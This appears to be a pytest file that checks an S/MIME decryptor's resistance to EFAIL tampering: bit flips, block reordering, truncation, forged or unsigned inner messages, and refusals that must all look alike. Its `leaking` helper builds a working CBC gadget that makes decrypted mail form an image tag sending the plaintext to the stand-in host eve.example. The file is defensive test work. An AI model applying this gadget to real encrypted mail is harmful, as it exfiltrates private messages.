"""EFAIL: whatever is done to a sealed mail, our decryptor lets nothing out, and its refusals all look the same."""

import base64
import random
from collections.abc import Callable, Iterator

import pytest
from cryptography.hazmat import asn1
from cryptography.hazmat.primitives.serialization import Encoding, pkcs7

from serving.encryption.sealed import payload
from serving.encryption.smime import SIGNED_HEAD, EnvelopedMessage, envelop
from serving.encryption.smime_signing import SignedMessage, Signer, sign
from serving.errors import Unsealable
from tests.unit.test_smime import CERTIFICATE, MAIL, OUTER, opened, sealed
from tests.unit.test_smime_certificates import KEY
from tests.unit.test_smime_signing import gateway

BLOCK = 16
SEALED = sealed(MAIL)
HEAD, _, _BODY = SEALED.partition(b"\r\n\r\n")
ENVELOPE = base64.b64decode(_BODY)
PLAINTEXT = pkcs7.pkcs7_decrypt_der(ENVELOPE, CERTIFICATE, KEY, [])
CIPHERTEXT = asn1.decode_der(EnvelopedMessage, ENVELOPE).content.content.content
BLOCKS = [CIPHERTEXT[start : start + BLOCK] for start in range(0, len(CIPHERTEXT), BLOCK)]
RANDOM = random.Random(20_261_102)  # noqa: S311


def mail(envelope: bytes) -> bytes:
    """The sealed mail, but with another envelope in it."""
    return HEAD + b"\r\n\r\n" + base64.encodebytes(envelope).replace(b"\n", b"\r\n")


def with_ciphertext(*blocks: bytes) -> bytes:
    """The envelope, its lengths correct, with other blocks in it."""
    message = asn1.decode_der(EnvelopedMessage, ENVELOPE)
    message.content.content.content = b"".join(blocks)
    return asn1.encode_der(message)


def gadget(wanted: bytes) -> tuple[bytes, bytes]:
    """Two blocks of which the second decrypts to what an attacker wants: the first lines of all sealed mail are known.

    The first of them decrypts to noise (Poddebniak et al., Efail, USENIX Security 2018, section 4).
    """
    known = SIGNED_HEAD[BLOCK : 2 * BLOCK]
    return bytes(a ^ b ^ c for a, b, c in zip(BLOCKS[0], known, wanted, strict=True)), BLOCKS[1]


def leaking(at: int) -> bytes:
    """An envelope whose plaintext sends all that stands from block `at` on to an attacker's web server."""
    opening = (*gadget(b"\r\n\r\n<img src='//  "[:BLOCK]), *gadget(b"eve.example/?  "[:BLOCK].ljust(BLOCK)))
    return with_ciphertext(*BLOCKS[:at], *opening, *BLOCKS[at:-2], *gadget(b"'>".ljust(BLOCK)), *BLOCKS[-2:])


def flips() -> Iterator[bytes]:
    """One bit of every octet outside the ciphertext, of every third inside, and of each of the last three blocks."""
    start = len(ENVELOPE) - len(CIPHERTEXT)
    inside = range(start, len(ENVELOPE) - 3 * BLOCK, 3)
    for position in (*range(start), *inside, *range(len(ENVELOPE) - 3 * BLOCK, len(ENVELOPE))):
        altered = bytearray(ENVELOPE)
        altered[position] ^= 1 << RANDOM.randrange(8)
        yield bytes(altered)


def every_flip_outside() -> Iterator[bytes]:
    """Each single bit of what stands before the ciphertext: versions, names, algorithms, key and first vector."""
    for bit in range((len(ENVELOPE) - len(CIPHERTEXT)) * 8):
        altered = bytearray(ENVELOPE)
        altered[bit // 8] ^= 1 << bit % 8
        yield bytes(altered)


def moved_blocks() -> Iterator[bytes]:
    """Blocks exchanged, left out, repeated and replaced, with all lengths correct."""
    for _ in range(60):
        first, second = sorted(RANDOM.sample(range(len(BLOCKS)), 2))
        swapped = [*BLOCKS]
        swapped[first], swapped[second] = swapped[second], swapped[first]
        yield with_ciphertext(*swapped)
        yield with_ciphertext(*BLOCKS[:first], *BLOCKS[second:])
        yield with_ciphertext(*BLOCKS[:second], *BLOCKS[first:])
        yield with_ciphertext(*BLOCKS[:first], RANDOM.randbytes(BLOCK), *BLOCKS[first + 1 :])


def truncated() -> Iterator[bytes]:
    """The file cut off, and the ciphertext cut at a block with all lengths correct."""
    yield from (ENVELOPE[:length] for length in range(0, len(ENVELOPE), 37))
    yield from (with_ciphertext(*BLOCKS[:length]) for length in range(0, len(BLOCKS), 5))


def gadgets() -> Iterator[bytes]:
    """EFAIL's gadget at every place of the first 60, and one made of the padding's last block."""
    yield from (leaking(at) for at in range(60))
    yield from (with_ciphertext(*BLOCKS[:at], *gadget(bytes([BLOCK]) * BLOCK)) for at in range(2, 40))


def unsigned() -> Iterator[bytes]:
    """Whatever anybody can make who has the recipient's certificate, and the plaintext of an old mail."""
    plain, signed = payload(MAIL, OUTER), base64.b64decode(PLAINTEXT[len(SIGNED_HEAD) :])
    stranger = sign(plain, Signer(CERTIFICATE, KEY))
    without_signers = asn1.decode_der(SignedMessage, signed)
    without_signers.content.signers = asn1.SetOf([])
    exchanged = asn1.decode_der(SignedMessage, signed)
    exchanged.content.content.content = plain.replace(b"97 %", b"03 %")
    certificates_alone = pkcs7.serialize_certificates([gateway().certificate], Encoding.DER)
    for entity in (plain, b"", signed, SIGNED_HEAD, SIGNED_HEAD + plain, PLAINTEXT + b"\r\n.", b"\r\n" + PLAINTEXT):
        yield envelop(entity, CERTIFICATE)
    for octets in (plain, stranger, certificates_alone, signed[:-1], signed + b"\0"):
        yield envelop(SIGNED_HEAD + base64.encodebytes(octets), CERTIFICATE)
    for message in (without_signers, exchanged):
        yield envelop(SIGNED_HEAD + base64.encodebytes(asn1.encode_der(message)), CERTIFICATE)
    yield envelop(PLAINTEXT.replace(b"filename", b"fileName"), CERTIFICATE)
    yield envelop(PLAINTEXT.replace(b"signed-data", b"certs-only"), CERTIFICATE)


MANNERS: dict[str, tuple[Callable[[], Iterator[bytes]], int]] = {
    "flips": (flips, 1000),
    "every flip outside": (every_flip_outside, 2000),
    "moved blocks": (moved_blocks, 240),
    "truncated": (truncated, 100),
    "gadgets": (gadgets, 90),
    "unsigned": (unsigned, 15),
}


@pytest.mark.parametrize("manner", MANNERS)
def test_nothing_that_was_tampered_with_yields_plaintext_or_tells_why(manner: str) -> None:
    """Each leak is somebody's mail, and each difference between refusals is an oracle that leaks it slowly."""
    make, at_least = MANNERS[manner]
    envelopes = [envelope for envelope in make() if envelope != ENVELOPE]
    outcomes = [_outcome(mail(envelope)) for envelope in envelopes]

    assert len(outcomes) >= at_least
    assert set(outcomes) == {_outcome(b"")}
    assert str(_outcome(b"")).endswith(" None True")
    assert opened(mail(ENVELOPE)) == payload(MAIL, OUTER)


def test_the_gadget_is_real() -> None:
    """A reader that believes the cipher alone sends the mail away; a gadget that did not work would prove nothing."""
    seen = pkcs7.pkcs7_decrypt_der(leaking(8), CERTIFICATE, KEY, [])
    start, end = seen.index(b"<img src='"), seen.rindex(b"'>")
    recorded = PLAINTEXT[9 * BLOCK : -4 * BLOCK]

    assert b"eve.example/?" in seen[start:end]
    assert recorded in seen[start:end]
    assert b"secret-canary" in base64.b64decode(recorded[recorded.index(b"\r\n\r\n") + 4 :] + b"==")


@pytest.mark.parametrize(
    "text",
    [SEALED[:-30], SEALED.replace(b"\r\n\r\n", b"\r\n\r\n*"), HEAD, _BODY, HEAD + b"\r\n\r\n" + MAIL, b"\xff" * 99],
)
def test_a_mail_that_is_not_the_sealed_form_is_refused_alike(text: bytes) -> None:
    """What else arrives under that name is no reason for another error."""
    assert _outcome(text) == _outcome(b"")


def _outcome(text: bytes) -> str | bytes:
    """The plaintext, or all that the refusal shows: itself, its cause, and whether what came before it is hidden."""
    try:
        return opened(text)
    except Unsealable as refusal:
        return f"{refusal!r} {refusal.__cause__!r} {refusal.__suppress_context__}"
